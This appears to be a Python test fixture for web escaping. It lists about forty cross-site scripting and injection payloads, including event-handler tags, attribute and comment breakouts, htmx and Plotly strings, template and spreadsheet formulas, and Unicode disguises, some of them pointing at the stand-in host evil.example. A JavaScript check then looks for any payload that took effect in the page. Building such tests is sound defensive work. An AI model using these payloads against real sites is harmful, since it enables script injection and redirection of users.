"""Words that would do something if a page ever took them for more than words: about forty, of every kind we know."""

# Each marks its success in the same way: `PWN` is set, or a dialog opens, or a link or element of its own stands in the page.
EVIL = "//evil.example"
PAYLOADS = (
    # elements that run at once
    "<script>window.PWN=1;alert(1)</script>",
    "</script><script>window.PWN=1</script>",
    "<img src=x onerror=window.PWN=1>",
    "<svg onload=window.PWN=1>",
    "<svg><script>window.PWN=1</script></svg>",
    "<body onload=window.PWN=1>",
    "<iframe srcdoc='<script>parent.PWN=1</script>'></iframe>",
    "<iframe src=javascript:parent.PWN=1></iframe>",
    "<object data=javascript:window.PWN=1></object>",
    "<embed src=javascript:window.PWN=1>",
    "<details open ontoggle=window.PWN=1>",
    "<video><source onerror=window.PWN=1></video>",
    "<input autofocus onfocus=window.PWN=1>",
    "<select autofocus onfocus=window.PWN=1></select>",
    "<marquee onstart=window.PWN=1>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.PWN=1>",
    "<style>@import '//evil.example/a.css';</style>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example><input type=submit value=go></form>",
    # out of an attribute, a text area, a comment, a list, JSON, a CDATA section
    '" onmouseover="window.PWN=1" autofocus onfocus="window.PWN=1',
    "' onmouseover='window.PWN=1' x='",
    '"><img src=x onerror=window.PWN=1>',
    "</textarea><img src=x onerror=window.PWN=1>",
    "</title></head><img src=x onerror=window.PWN=1>",
    "</option></select><img src=x onerror=window.PWN=1>",
    "--><img src=x onerror=window.PWN=1><!--",
    "]]><img src=x onerror=window.PWN=1>",
    '"}]}</script><img src=x onerror=window.PWN=1>',
    # what htmx or plotly would read
    "<a href=//evil.example hx-get=//evil.example hx-trigger=load>go</a>",
    "<b hx-on:load=window.PWN=1 hx-get=/ hx-trigger=load>go</b>",
    "<a href=//evil.example>a link in a label</a>",
    "<a href='javascript:window.PWN=1'>a script in a label</a>",
    "<span style='position:fixed;inset:0;background:url(//evil.example)'>over everything</span>",
    "%{text} %{customdata} <extra>%{y}</extra>",
    # what a template or a spreadsheet would read
    "{{ 7*7 }}{% raw %}${7*7}#{7*7}",
    '=HYPERLINK("//evil.example","go")',
    # disguises: entities, other quotes, odd white space, a right-to-left mark
    "&lt;img src=x onerror=window.PWN=1&gt; &#60;script&#62;window.PWN=1&#60;/script&#62;",
    "<img\u00a0src=x\tonerror=window.PWN=1\u202e>",
    "javascript:window.PWN=1//' onclick=window.PWN=1 //",
    "＜script＞window.PWN=1＜/script＞`<img src=x onerror=window.PWN=1>`",
)

# As much as a name holds, with a number before it.
_LONGEST_NAME = 190


def _packed() -> tuple[str, ...]:
    """All payloads in few lines, each as long as a name may be: a page that shows every line has shown every payload."""
    lines: list[str] = []
    for payload in sorted(PAYLOADS, key=len, reverse=True):
        room = next((number for number, line in enumerate(lines) if len(line) + len(payload) < _LONGEST_NAME), None)
        if room is None:
            lines.append(payload)
        else:
            lines[room] += f" {payload}"
    return tuple(lines)


LINES = _packed()

# What a page says about itself after the words were put in: the mark, or an element, a script or a link that we did not write.
CENSUS = """() => {
  const found = window.PWN === undefined ? [] : ["the mark is set"];
  const strange = "iframe, object, embed, base, marquee, math, video, meta[http-equiv], style:not([id^='plotly']), img, form form";
  for (const element of document.querySelectorAll(strange)) found.push("an element: " + element.outerHTML.slice(0, 80));
  const ours = (address) => new URL(address, location).origin === location.origin;
  const leads = ["href", "xlink:href", "src", "action", "formaction", "data", "srcdoc", "hx-get", "hx-post"];
  for (const element of document.querySelectorAll("*"))
    for (const { name, value } of element.attributes)
      if (name.startsWith("on") || name.startsWith("hx-on") || (leads.includes(name) && !ours(value)))
        found.push("an attribute: " + name + "=" + value.slice(0, 80));
  for (const script of document.scripts)
    if (script.type !== "application/json" && !script.src.startsWith(location.origin + "/static/"))
      found.push("a script: " + script.outerHTML.slice(0, 80));
  for (const link of document.querySelectorAll(".plot a[href], .plot a[*|href]")) found.push("a link in a chart: " + link.textContent);
  return found;
}"""
